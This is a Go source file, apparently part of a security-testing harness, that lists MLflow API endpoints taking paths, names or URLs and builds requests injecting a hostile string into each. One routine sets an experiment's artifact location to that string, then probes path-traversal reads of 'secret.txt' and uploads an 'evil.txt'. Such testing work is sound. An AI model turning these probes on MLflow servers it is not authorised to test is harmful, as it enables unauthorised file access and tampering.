package enemy

import (
	"crypto/md5"
	"fmt"
	"strings"
)

const (
	mlflow = "/api/2.0/mlflow/"
	ajax   = "/ajax-api/2.0/mlflow/"
	proxy  = "/api/2.0/mlflow-artifacts/artifacts"
)

type fields = map[string]any

// MLflow are the places of MLflow's interface that take a path, an address or a name.
func MLflow(k Known) []Entry {
	root := "/" + k.Experiment + "/" + k.Run + "/artifacts/"
	var list []Entry
	one := func(name string, ask func(string) Request) {
		list = append(list, asking(name, ask))
	}
	for _, method := range []string{"GET", "PUT", "DELETE", "HEAD"} {
		for where, folder := range map[string]string{"a run's": root, "a model's": "/" + k.Experiment + "/models/" + k.Model + "/artifacts/", "no one's": "/"} {
			if method == "DELETE" && where != "no one's" {
				continue // it would take away what the others look for
			}
			one(method+" proxy, "+where+", as it is", func(s string) Request { return bytesTo(method, proxy+folder+wire(s)) })
			one(method+" proxy, "+where+", escaped", func(s string) Request { return bytesTo(method, proxy+folder+segment(s)) })
		}
	}
	one("DELETE proxy, below a folder", func(s string) Request { return bytesTo("DELETE", proxy+root+"none/"+wire(s)) })
	one("PUT proxy, ajax", func(s string) Request {
		return bytesTo("PUT", strings.Replace(proxy, "/api", "/ajax-api", 1)+root+wire(s))
	})
	for name, query := range map[string]string{
		"list proxy": proxy + "?path=", "list proxy of a run": proxy + "?path=" + root[1:], "list of a run": mlflow + "artifacts/list?run_id=" + k.Run + "&path=",
		"list of a run by name": ajax + "artifacts/list?run_id=", "get-artifact": "/get-artifact?run_id=" + k.Run + "&path=", "get-artifact of": "/get-artifact?path=secret.txt&run_uuid=",
		"files of a model": mlflow + "logged-models/" + k.Model + "/artifacts/files?artifact_file_path=", "folders of a model": mlflow + "logged-models/" + k.Model + "/artifacts/directories?artifact_directory_path=",
		"experiment by name": mlflow + "experiments/get-by-name?experiment_name=", "run": mlflow + "runs/get?run_id=", "registered model": mlflow + "registered-models/get?name=", "where a version lies": mlflow + "model-versions/get-download-uri?version=1&name=",
		"version by alias": mlflow + "registered-models/alias?name=wine&alias=", "history": mlflow + "metrics/get-history?run_id=" + k.Run + "&metric_key=",
	} {
		one(name, func(s string) Request { return get(query + segment(s)) })
		one(name+", as it is", func(s string) Request { return get(query + strings.ReplaceAll(wire(s), "&", "%26")) })
	}
	for name, before := range map[string]string{"model": mlflow + "logged-models/", "presigned": "/api/2.0/mlflow-artifacts/presigned/", "webhook": mlflow + "webhooks/", "page": "/", "version of a page": "/model-versions/"} {
		one(name+" in the path", func(s string) Request { return get(before + wire(s)) })
	}
	one("multipart", func(s string) Request {
		return post("/api/2.0/mlflow-artifacts/mpu/create/"+wire(s), fields{"path": s})
	})
	one("upload-artifact", func(s string) Request {
		return bytesTo("POST", ajax+"upload-artifact?run_uuid="+k.Run+"&path="+segment(s))
	})
	one("upload-artifact to", func(s string) Request {
		return bytesTo("POST", ajax+"upload-artifact?path=secret.txt&run_uuid="+segment(s))
	})
	return append(list, mlflowBodies(k)...)
}

// mlflowBodies are those whose string stands in JSON.
func mlflowBodies(k Known) []Entry {
	var list []Entry
	for name, ask := range map[string]func(s string) Request{
		"source of a version": func(s string) Request {
			return post(mlflow+"model-versions/create", fields{"name": "wine", "source": s})
		},
		"source of a run's": func(s string) Request {
			return post(mlflow+"model-versions/create", fields{"name": "wine", "source": s, "run_id": k.Run})
		},
		"source of a model's": func(s string) Request {
			return post(mlflow+"model-versions/create", fields{"name": "wine", "source": s, "model_id": k.Model})
		},
		"source below the run": func(s string) Request {
			return post(mlflow+"model-versions/create", fields{"name": "wine", "source": "runs:/" + k.Run + "/" + s, "run_id": k.Run})
		},
		"run of a version": func(s string) Request {
			return post(mlflow+"model-versions/create", fields{"name": "wine", "source": "runs:/" + k.Run + "/m", "run_id": s})
		},
		"name of a model": func(s string) Request { return post(mlflow+"registered-models/create", fields{"name": s}) },
		"alias": func(s string) Request {
			return post(mlflow+"registered-models/alias", fields{"name": "wine", "alias": s, "version": "1"})
		},
		"log-model": func(s string) Request {
			return post(mlflow+"runs/log-model", fields{"run_id": k.Run, "model_json": encode(fields{"artifact_path": s, "run_id": k.Run, "utc_time_created": "2026-01-01", "flavors": fields{}})})
		},
		"name of a logged model": func(s string) Request {
			return post(mlflow+"logged-models", fields{"experiment_id": "0", "name": s, "source_run_id": k.Run})
		},
		"webhook": func(s string) Request {
			return post(mlflow+"webhooks", fields{"name": "w", "url": s, "events": []fields{{"entity": "MODEL_VERSION", "action": "CREATED"}}})
		},
		"tag": func(s string) Request {
			return post(mlflow+"runs/set-tag", fields{"run_id": k.Run, "key": s, "value": s})
		},
		"param": func(s string) Request {
			return post(mlflow+"runs/log-parameter", fields{"run_id": k.Run, "key": s, "value": "x"})
		},
		"metric": func(s string) Request {
			return post(mlflow+"runs/log-metric", fields{"run_id": k.Run, "key": s, "value": 1, "timestamp": 1})
		},
		"data set": func(s string) Request {
			return post(mlflow+"runs/log-inputs", fields{"run_id": k.Run, "datasets": []fields{{"dataset": fields{"name": "d", "digest": "1", "source_type": "local", "source": s}}}})
		},
		"name of a run":       func(s string) Request { return post(mlflow+"runs/create", fields{"experiment_id": "0", "run_name": s}) },
		"experiment of a run": func(s string) Request { return post(mlflow+"runs/create", fields{"experiment_id": s}) },
		"filter": func(s string) Request {
			return post(mlflow+"runs/search", fields{"experiment_ids": []string{"0"}, "filter": "tags.x = '" + s + "'", "max_results": 1})
		},
		"presigned upload": func(s string) Request {
			return post(mlflow+"artifacts/presigned-upload-url", fields{"run_id": k.Run, "path": s})
		},
		"name of an experiment":    func(s string) Request { return post(mlflow+"experiments/create", fields{"name": s}) },
		"version by model address": func(s string) Request { return get(mlflow + "model-versions/get?version=1&name=" + segment(s)) },
	} {
		list = append(list, asking(name, ask))
	}
	return append(list, Entry{Name: "location of experiments", Play: playLocation})
}

// playLocation makes an experiment whose artifacts lie somewhere, and looks around there.
func playLocation(send Send, s string) {
	experiment := field(send(post(mlflow+"experiments/create", fields{"name": unique(s), "artifact_location": s})), "experiment_id")
	if experiment == "" {
		return
	}
	run := field(send(post(mlflow+"runs/create", fields{"experiment_id": experiment})), "run_id")
	if run == "" {
		return
	}
	send(get(mlflow + "artifacts/list?run_id=" + run))
	for _, name := range []string{"secret.txt", "link/secret.txt", "../../secret.txt", "%2e%2e/%2e%2e/secret.txt"} {
		send(get("/get-artifact?run_id=" + run + "&path=" + segment(name)))
		send(bytesTo("POST", mlflow+"upload-artifact?run_uuid="+run+"&path=../"+segment(name)))
	}
	if strings.HasPrefix(s, "mlflow-artifacts:") { // else it is the person who says where
		send(bytesTo("POST", mlflow+"upload-artifact?run_uuid="+run+"&path=evil.txt"))
	}
}

// field finds a text in the JSON of an answer.
func field(answer, name string) string {
	_, rest, _ := strings.Cut(answer, `"`+name+`"`)
	_, rest, _ = strings.Cut(rest, `"`)
	value, _, _ := strings.Cut(rest, `"`)
	return value
}

// unique is another name for each string.
func unique(s string) string { return fmt.Sprintf("hostile %x", md5.Sum([]byte(s))) }
